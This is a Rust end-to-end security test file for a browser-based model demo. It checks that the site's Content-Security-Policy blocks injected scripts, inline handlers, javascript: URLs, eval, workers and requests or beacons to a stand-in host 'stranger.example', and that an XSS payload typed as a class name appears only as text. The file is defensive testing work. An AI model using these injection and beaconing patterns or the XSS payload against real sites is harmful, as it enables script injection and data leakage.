//! What comes into the page from elsewhere does not run, and tells nobody anything.

use anyhow::{Result, ensure};
use e2e::{Gpu, Options, Page, Strangers, dist, seconds};

/// Ways in which something that got into the page would act; each gives its name when it did. Of those that throw in
/// any case, who was asked tells.
const ATTEMPTS: &str = r#"
    const stranger = 'http://stranger.example';
    const element = (name, values) => {
        const made = Object.assign(document.createElement(name), values);
        document.body.append(made);
        return made;
    };
    const comes = made => new Promise((yes, no) => { made.onload = yes; made.onerror = no; });
    const attempts = {
        'a script in the page': () => {
            element('script', { textContent: 'window.ran = 1' });
            if (!window.ran) throw 0;
        },
        'an attribute that runs': () => {
            element('p', {}).outerHTML = '<p id="bad" onclick="window.clicked = 1">';
            document.getElementById('bad').click();
            if (!window.clicked) throw 0;
        },
        'an address that runs': async () => {
            element('a', { href: 'javascript:window.followed = 1' }).click();
            await new Promise(done => setTimeout(done, 50));
            if (!window.followed) throw 0;
        },
        'eval': () => window.eval('1 + 1'),
        'a function of a text': () => new window.Function('return 1')(),
        "another host's script": () => comes(element('script', { src: `${stranger}/script.js` })),
        "another host's module": () => import(`${stranger}/module.js`),
        'a script of data': () => comes(element('script', { src: 'data:text/javascript,window.data=1' })),
        'a worker of its own': () => new Promise((yes, no) => {
            const source = new Blob(['postMessage(1)'], { type: 'text/javascript' });
            const worker = new Worker(URL.createObjectURL(source));
            worker.onmessage = yes;
            worker.onerror = no;
        }),
        'a style': () => {
            element('style', { textContent: '#bad-style { position: fixed; }' });
            if (getComputedStyle(element('p', { id: 'bad-style' })).position !== 'fixed') throw 0;
        },
        "another host's picture": () => comes(element('img', { src: `${stranger}/picture.png` })),
        "another host's frame": async () => { await comes(element('iframe', { src: `${stranger}/frame` })); throw 0; },
        'a question to another host': () => fetch(`${stranger}/question`, { mode: 'no-cors' }),
        'a message to another host': () => { navigator.sendBeacon(`${stranger}/message`, '1'); throw 0; },
        'a socket to another host': () => new Promise((yes, no) => {
            const socket = new WebSocket('ws://stranger.example/socket');
            socket.onopen = yes;
            socket.onerror = no;
        }),
        'another base': () => {
            document.head.append(Object.assign(document.createElement('base'), { href: stranger }));
            if (!document.baseURI.startsWith(stranger)) throw 0;
        },
        'a form that is sent away': () => {
            const form = element('form', { action: `${stranger}/form`, method: 'post', target: 'elsewhere' });
            form.submit();
            throw 0;
        },
    };
    const limit = () => new Promise((_, no) => setTimeout(no, 3000));
    const done = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        try {
            await Promise.race([attempt(), limit()]);
            done.push(name);
        } catch {}
    }
    return { tried: Object.keys(attempts).length, done };
"#;

#[derive(serde::Deserialize)]
struct Tried {
    tried: usize,
    done: Vec<String>,
}

fn open(strangers: &Strangers, server: e2e::Server) -> Result<Page> {
    let page = Page::open_site(Options { switches: vec![strangers.switch()], ..Options::default() }, server)?;
    page.goto("#/models/lenet5")?;
    page.wait_until_there("prediction-top1", seconds(20))?;
    Ok(page)
}

#[test]
fn nothing_that_got_into_the_page_runs_or_asks_another_host() -> Result<()> {
    let headers = std::fs::read_to_string(dist()?.join("_headers"))?;
    ensure!(headers.contains("Content-Security-Policy") && headers.contains("Permissions-Policy"), "{headers}");
    // Once as this project's server sends it, and once as a host does that sends no headers.
    for sends_headers in [true, false] {
        let strangers = Strangers::listen()?;
        let server =
            if sends_headers { e2e::Server::new(dist()?) } else { e2e::Server::new(dist()?).without_headers() };
        let page = open(&strangers, server)?;
        let Tried { tried, done } = page.script(ATTEMPTS, &[])?;
        ensure!(tried > 15 && done.is_empty(), "headers {sends_headers}: these came through: {done:?}");
        ensure!(strangers.asked().is_empty(), "headers {sends_headers}: asked: {:?}", strangers.asked());
        // What the visitor types is asked, by the engine alone.
        page.fill("checkpoint-address", "http://weights.example/lenet5.pth")?;
        page.click("checkpoint-fetch")?;
        page.wait_for("notice", seconds(20), |sentence| sentence.contains("weights.example"))?;
        let asked: Vec<String> = strangers.asked().into_iter().collect();
        ensure!(asked == ["weights.example"], "headers {sends_headers}: asked: {asked:?}");
    }
    Ok(())
}

/// What strangers may have put into the names of classes, which travel in archives, is shown letter by letter.
#[test]
fn text_of_strangers_is_shown_as_text() -> Result<()> {
    const TEXT: &str = "<img src=x onerror=window.ran=1>";
    let page = Page::open(Gpu::Off)?;
    page.goto("#/teach")?;
    page.wait_until_there("teach-add-class", seconds(20))?;
    page.fill("teach-name", TEXT)?;
    page.click("teach-add-class")?;
    page.wait_until_there("teach-class-0", seconds(10))?;
    let reads = || page.script::<String>("return document.body.textContent", &[]);
    ensure!(reads()?.contains(TEXT), "a class is called what it is called");
    let made: u32 = page.script("return document.querySelectorAll('img[src=x]').length + (window.ran ?? 0)", &[])?;
    ensure!(made == 0, "text became a picture");
    Ok(())
}
